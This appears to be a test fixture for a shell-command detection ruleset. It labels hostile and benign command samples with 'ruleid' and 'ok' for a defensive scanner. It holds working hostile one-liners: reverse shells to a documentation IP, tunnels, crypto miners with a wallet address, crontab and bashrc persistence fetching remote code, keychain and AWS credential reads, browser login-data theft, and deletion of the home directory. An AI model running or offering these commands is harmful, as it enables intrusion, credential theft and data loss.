#!/bin/bash
# Inert samples of hard indicators; 203.0.113.0/24 is a documentation range. Never run.
# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
# ruleid: shell-reverse-shell
nc -e /bin/sh 203.0.113.7 4444
# ruleid: shell-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
# ruleid: shell-reverse-shell
socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444
# ok: shell-reverse-shell
grep -r "nc -e" logs/
# ok: shell-reverse-shell
nc -z 203.0.113.7 22
# ruleid: shell-tunnel
ngrok tcp 22
# ruleid: shell-tunnel
cloudflared tunnel run my-tunnel
# ruleid: shell-tunnel
bore local 8080 --to bore.example
# ok: shell-tunnel
cloudflared --version
# ruleid: shell-ssh-tunnel
ssh -N -R 80:localhost:8080 serveo.net
# ok: shell-ssh-tunnel
ssh deploy@build.example.org git pull
# ruleid: shell-crypto-miner
./xmrig -o stratum+tcp://pool.example:3333 -u WALLET --donate-level 1
# ok: shell-crypto-miner
grep -c "stratum+tcp" logs/pool.log
# ruleid: shell-persistence
(crontab -l; echo "*/5 * * * * $HOME/.cache/upd.sh") | crontab -
# ruleid: shell-persistence
echo 'curl -s https://updates.example/run | sh' >> ~/.bashrc
# ruleid: shell-persistence
systemctl --user enable updater.service
# ruleid: shell-persistence
launchctl load ~/Library/LaunchAgents/com.example.updater.plist
# ok: shell-persistence
crontab -l
# ok: shell-persistence
systemctl status nginx
# ok: shell-persistence
echo "done" >> ./notes.txt
# ruleid: shell-privilege-escalation
sudo apt-get install -y jq
# ok: shell-privilege-escalation
chmod 644 config.yml
# ruleid: shell-background-process
nohup ./server --port 8080 &
# ok: shell-background-process
./server --port 8080
# ruleid: shell-credential-store-read
security find-generic-password -s "Chrome Safe Storage" -w
# ok: shell-credential-store-read
security list-keychains
# ruleid: shell-secret-file-read
cat ~/.aws/credentials
# ok: shell-secret-file-read
chmod 600 ~/.ssh/id_ed25519
# ok: shell-secret-file-read
cp .env.example .env.local.sample
# ok: shell-secret-file-read
cp .env.example .env.local
# ruleid: shell-secret-file-read
cp .env.local /tmp/backup.txt
# ruleid: shell-stealer-path-read
cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/ld
# ok: shell-stealer-path-read
ls "$HOME/Library/Application Support/Google/Chrome"
# ruleid: shell-destructive-delete
rm -rf ~/
# ok: shell-destructive-delete
rm -rf ./build
# a renamed miner: a host:port pool and a wallet address as its login
# ruleid: shell-crypto-miner
./.cache/rfworker -o render.cdn-mirror.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --threads 4
# ok: shell-crypto-miner
./bin/loadgen -o api.example.com:8443 -u loadtest-user --threads 4
